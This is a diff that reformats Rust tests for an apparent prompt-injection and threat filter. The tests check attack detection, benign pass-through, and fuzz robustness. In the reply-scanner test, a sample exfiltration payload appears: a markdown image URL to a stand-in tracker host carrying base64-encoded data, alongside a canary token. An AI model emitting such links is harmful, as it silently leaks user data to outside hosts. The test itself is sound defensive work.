@@ -205,7 +205,10 @@ fn attacks_are_flagged_or_blocked_in_their_category() {
         let (action, report) = decide(&c, text, *source);
         let score = report.score(*category);
         if action == Action::Allow || score < c.policy.flag_threshold {
-            failures.push(format!("{category:?} {score:.2} {action:?} {:?}: {text}", report.rule_ids().collect::<Vec<_>>()));
+            failures.push(format!(
+                "{category:?} {score:.2} {action:?} {:?}: {text}",
+                report.rule_ids().collect::<Vec<_>>()
+            ));
         }
     }
     assert!(failures.is_empty(), "missed attacks:\n{}", failures.join("\n"));
@@ -218,7 +221,11 @@ fn benign_texts_with_trigger_words_pass() {
     for (source, text) in BENIGN {
         let (action, report) = decide(&c, text, *source);
         if action != Action::Allow {
-            failures.push(format!("{action:?} {:.2} {:?}: {text}", report.overall(), report.rule_ids().collect::<Vec<_>>()));
+            failures.push(format!(
+                "{action:?} {:.2} {:?}: {text}",
+                report.overall(),
+                report.rule_ids().collect::<Vec<_>>()
+            ));
         }
     }
     assert!(failures.is_empty(), "false positives:\n{}", failures.join("\n"));
@@ -333,12 +340,11 @@ fn whitespace_runs_collapse_in_plain_view() {
 
 #[test]
 fn reply_scanner_finds_exfiltration_links_and_canary() {
-    let raw: ThreatsConfig = serde_json::from_str(
-        r#"{"canary":"cnry-7f3a9e21","reply":{"allowed_link_hosts":["example.com"]}}"#,
-    )
-    .unwrap();
+    let raw: ThreatsConfig =
+        serde_json::from_str(r#"{"canary":"cnry-7f3a9e21","reply":{"allowed_link_hosts":["example.com"]}}"#).unwrap();
     let c = raw.compile().unwrap();
-    let found = c.reply.scan("Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21");
+    let found =
+        c.reply.scan("Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21");
     let ids: Vec<_> = found.iter().map(|f| f.rule_id).collect();
     assert!(ids.contains(&"PG-RP-001") && ids.contains(&"PG-RP-002"), "{ids:?}");
     assert!(c.reply.scan("See [the docs](https://docs.example.com/guide?q=install).").is_empty());
@@ -361,8 +367,24 @@ fn hostile_inputs_do_not_panic() {
     let c = compiled();
     let long = "a'".repeat(50_000);
     let inputs = [
-        "", "'", "\"", "%", "%u", "%uZZZZ", "&#", "&#x;", "&#99999999;", "\u{E0000}", "/*", "/*!", "--", "#",
-        "\u{0301}\u{0301}", "ǅ", "İ", long.as_str(),
+        "",
+        "'",
+        "\"",
+        "%",
+        "%u",
+        "%uZZZZ",
+        "&#",
+        "&#x;",
+        "&#99999999;",
+        "\u{E0000}",
+        "/*",
+        "/*!",
+        "--",
+        "#",
+        "\u{0301}\u{0301}",
+        "ǅ",
+        "İ",
+        long.as_str(),
     ];
     for text in inputs {
         for source in Source::ALL {
@@ -372,4 +394,3 @@ fn hostile_inputs_do_not_panic() {
         let _ = check_hygiene(text, &HygieneSettings::default());
     }
 }
-
